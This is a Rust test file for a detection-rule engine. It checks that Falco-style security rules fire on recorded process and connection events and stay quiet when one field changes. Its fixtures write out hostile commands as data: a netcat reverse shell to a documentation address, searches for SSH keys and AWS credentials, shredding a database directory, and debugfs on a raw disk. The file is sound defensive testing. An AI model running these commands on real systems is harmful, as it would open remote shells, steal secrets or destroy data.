//! Each upstream stable rule that compiles fires on a recorded event, and does not fire on a
//! near miss (one field changed).
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)] // test helpers outside #[test] fns

mod common;

use common::{CONNECT_ON_HOST, EXEC_IN_CONTAINER, event_with, matches, stable};
use peregrine_rules::{RecordedEvent, Ruleset};

fn assert_fires(rs: &Ruleset, rule: &str, ev: &RecordedEvent) {
    let m = matches(rs, ev);
    assert!(
        m.iter().any(|r| r == rule),
        "'{rule}' should fire; matched {m:?}"
    );
}

fn assert_quiet(rs: &Ruleset, rule: &str, ev: &RecordedEvent) {
    let m = matches(rs, ev);
    assert!(
        !m.iter().any(|r| r == rule),
        "'{rule}' should not fire; matched {m:?}"
    );
}

fn case(rule: &str, fire: &str, miss: &str) {
    let rs = stable();
    assert!(rs.rule(rule).is_some(), "'{rule}' did not compile");
    let base = if fire.contains("\"connect\"") {
        CONNECT_ON_HOST
    } else {
        EXEC_IN_CONTAINER
    };
    assert_fires(&rs, rule, &event_with(base, fire));
    assert_quiet(&rs, rule, &event_with(base, &merge(fire, miss)));
}

/// `fire` with `miss`'s keys replacing its own.
fn merge(fire: &str, miss: &str) -> String {
    let mut a: serde_json::Map<String, serde_json::Value> = serde_json::from_str(fire).unwrap();
    let b: serde_json::Map<String, serde_json::Value> = serde_json::from_str(miss).unwrap();
    a.extend(b);
    serde_json::Value::Object(a).to_string()
}

#[test]
fn the_base_events_fire_nothing() {
    let rs = stable();
    assert!(matches(&rs, &common::event(EXEC_IN_CONTAINER)).is_empty());
    assert!(matches(&rs, &common::event(CONNECT_ON_HOST)).is_empty());
}

#[test]
fn run_shell_untrusted() {
    let fire = r#"{"proc.name": "sh", "proc.exe": "/bin/sh", "proc.cmdline": "sh -c id", "proc.args": "-c id",
        "proc.aname": ["nginx", "containerd-shim", "systemd"], "proc.acmdline": ["nginx: worker process", "containerd-shim", "systemd"]}"#;
    // A command line upstream lists as a known shell spawn (a quoted list item).
    case(
        "Run shell untrusted",
        fire,
        r#"{"proc.cmdline": "sh -c uname -a 2>&1"}"#,
    );
    // Not below a protected binary.
    case(
        "Run shell untrusted",
        fire,
        r#"{"proc.aname": ["node", "containerd-shim", "systemd"]}"#,
    );
}

#[test]
fn system_user_interactive() {
    let fire = r#"{"user.name": "www-data", "user.uid": 33, "container.id": "host", "proc.aname": ["bash", "sshd", "systemd"]}"#;
    case("System user interactive", fire, r#"{"user.name": "alice"}"#);
    case(
        "System user interactive",
        fire,
        r#"{"proc.aname": ["bash", "cron", "systemd"]}"#,
    );
}

#[test]
fn terminal_shell_in_container() {
    let fire = r#"{"proc.name": "bash", "proc.exe": "bash", "proc.exepath": "/bin/bash", "proc.cmdline": "bash",
        "proc.args": "", "proc.tty": 34816, "proc.aname": ["runc:[1:CHILD]", "containerd-shim", "systemd"]}"#;
    case("Terminal shell in container", fire, r#"{"proc.tty": 0}"#);
    case(
        "Terminal shell in container",
        fire,
        r#"{"container.id": "host"}"#,
    );
    // No parent known at all counts as an entrypoint (`not proc.pname exists`).
    let rs = stable();
    let orphan = event_with(EXEC_IN_CONTAINER, &merge(fire, r#"{"proc.aname": []}"#));
    assert_fires(&rs, "Terminal shell in container", &orphan);
}

#[test]
fn netcat_remote_code_execution_in_container() {
    let fire = r#"{"proc.name": "nc", "proc.exe": "nc", "proc.cmdline": "nc -e /bin/sh 198.51.100.1 4444", "proc.args": "-e /bin/sh 198.51.100.1 4444"}"#;
    case(
        "Netcat Remote Code Execution in Container",
        fire,
        r#"{"proc.cmdline": "nc -z 198.51.100.1 80", "proc.args": "-z 198.51.100.1 80"}"#,
    );
    case(
        "Netcat Remote Code Execution in Container",
        fire,
        r#"{"container.id": "host"}"#,
    );
}

#[test]
fn search_private_keys_or_passwords() {
    let fire = r#"{"proc.name": "find", "proc.exe": "find", "proc.cmdline": "find / -name id_rsa", "proc.args": "/ -name id_rsa"}"#;
    case(
        "Search Private Keys or Passwords",
        fire,
        r#"{"proc.cmdline": "find / -name *.log", "proc.args": "/ -name *.log"}"#,
    );
    let grep = r#"{"proc.name": "grep", "proc.cmdline": "grep -r BEGIN RSA PRIVATE /", "proc.args": "-r begin rsa private /"}"#;
    case(
        "Search Private Keys or Passwords",
        grep,
        r#"{"proc.name": "rg"}"#,
    );
}

#[test]
fn remove_bulk_data_from_disk() {
    case(
        "Remove Bulk Data from Disk",
        r#"{"proc.name": "shred", "proc.cmdline": "shred -u /data/db"}"#,
        r#"{"proc.name": "rm"}"#,
    );
}

#[test]
fn debugfs_launched_in_privileged_container() {
    let fire = r#"{"proc.name": "debugfs", "proc.cmdline": "debugfs /dev/sda1", "container.privileged": true}"#;
    case(
        "Debugfs Launched in Privileged Container",
        fire,
        r#"{"container.privileged": false}"#,
    );
}

#[test]
fn find_aws_credentials() {
    let fire = r#"{"proc.name": "grep", "proc.cmdline": "grep -ri aws_secret_access_key /home", "proc.args": "-ri AWS_SECRET_ACCESS_KEY /home"}"#;
    case(
        "Find AWS Credentials",
        fire,
        r#"{"proc.args": "-ri password /home"}"#,
    );
    let find = r#"{"proc.name": "find", "proc.args": "/ -path */.aws/credentials"}"#;
    case(
        "Find AWS Credentials",
        find,
        r#"{"proc.args": "/ -path */.aws/config"}"#,
    );
}

#[test]
fn execution_from_dev_shm() {
    let fire = r#"{"proc.name": "x", "proc.exe": "/dev/shm/x", "proc.exepath": "/dev/shm/x", "proc.cmdline": "x"}"#;
    case(
        "Execution from /dev/shm",
        fire,
        r#"{"proc.exe": "/usr/local/bin/x"}"#,
    );
    // An image from the trusted list (reached through a list nested in a list).
    case(
        "Execution from /dev/shm",
        fire,
        r#"{"container.image.repository": "docker.io/falcosecurity/falco"}"#,
    );
    let shell = r#"{"proc.name": "bash", "proc.exe": "bash", "proc.args": "-c /dev/shm/run.sh"}"#;
    case(
        "Execution from /dev/shm",
        shell,
        r#"{"proc.name": "python3"}"#,
    );
}

#[test]
fn drop_and_execute_new_binary_in_container() {
    let fire = r#"{"proc.name": "miner", "proc.exe": "./miner", "proc.exepath": "/tmp/miner", "proc.is_exe_upper_layer": true}"#;
    case(
        "Drop and execute new binary in container",
        fire,
        r#"{"proc.is_exe_upper_layer": false}"#,
    );
    case(
        "Drop and execute new binary in container",
        fire,
        r#"{"container.id": "host"}"#,
    );
}

#[test]
fn disallowed_ssh_connection_non_standard_port() {
    let fire = r#"{"evt.type": "connect", "proc.name": "ssh", "proc.exe": "ssh", "proc.exepath": "/usr/bin/ssh",
        "evt.res": "EINPROGRESS", "evt.rawres": -115}"#;
    case(
        "Disallowed SSH Connection Non Standard Port",
        fire,
        r#"{"fd.sport": 22, "fd.rport": 22}"#,
    );
    // To a private address: not outbound.
    case(
        "Disallowed SSH Connection Non Standard Port",
        fire,
        r#"{"fd.sip": "192.168.1.10"}"#,
    );
    // Refused: not a successful or pending connection.
    case(
        "Disallowed SSH Connection Non Standard Port",
        fire,
        r#"{"evt.res": "ECONNREFUSED", "evt.rawres": -111}"#,
    );
    // The same process exec'ing is not a connection.
    let rs = stable();
    let exec = event_with(
        EXEC_IN_CONTAINER,
        r#"{"proc.name": "ssh", "proc.exe": "ssh"}"#,
    );
    assert_quiet(&rs, "Disallowed SSH Connection Non Standard Port", &exec);
}

#[test]
fn fileless_execution_via_memfd_create() {
    let fire = r#"{"proc.name": "3", "proc.exe": "/proc/self/fd/3", "proc.exepath": "memfd:payload (deleted)", "proc.is_exe_from_memfd": true}"#;
    case(
        "Fileless execution via memfd_create",
        fire,
        r#"{"proc.is_exe_from_memfd": false}"#,
    );
    case(
        "Fileless execution via memfd_create",
        fire,
        r#"{"proc.aname": ["runc", "containerd-shim"]}"#,
    );
}

#[test]
fn output_renders_like_falco() {
    let rs = stable();
    let ev = event_with(
        EXEC_IN_CONTAINER,
        r#"{"proc.name": "bash", "proc.exe": "bash", "proc.exepath": "/bin/bash", "proc.cmdline": "bash", "proc.args": "",
            "proc.tty": 34816, "proc.aname": ["runc", "containerd-shim", "systemd"]}"#,
    );
    let rule = rs.rule("Terminal shell in container").unwrap();
    assert_eq!(
        rule.render_output(&ev),
        "A shell was spawned in a container with an attached terminal | evt_type=execve user=root user_uid=0 \
         user_loginuid=-1 process=bash proc_exepath=/bin/bash parent=runc command=bash terminal=34816 exe_flags=<NA>"
    );
    let alert = rule.alert(&ev, 7);
    assert_eq!(alert.container_id, "0123456789ab");
    assert_eq!(alert.priority, peregrine_rules::Priority::Notice);
    assert!(alert.tags.iter().any(|t| t == "maturity_stable"));
    assert!(
        alert
            .fields
            .contains(&("proc.tty".to_string(), "34816".to_string()))
    );
    assert!(
        alert
            .fields
            .contains(&("evt.arg.flags".to_string(), "<NA>".to_string()))
    );
}
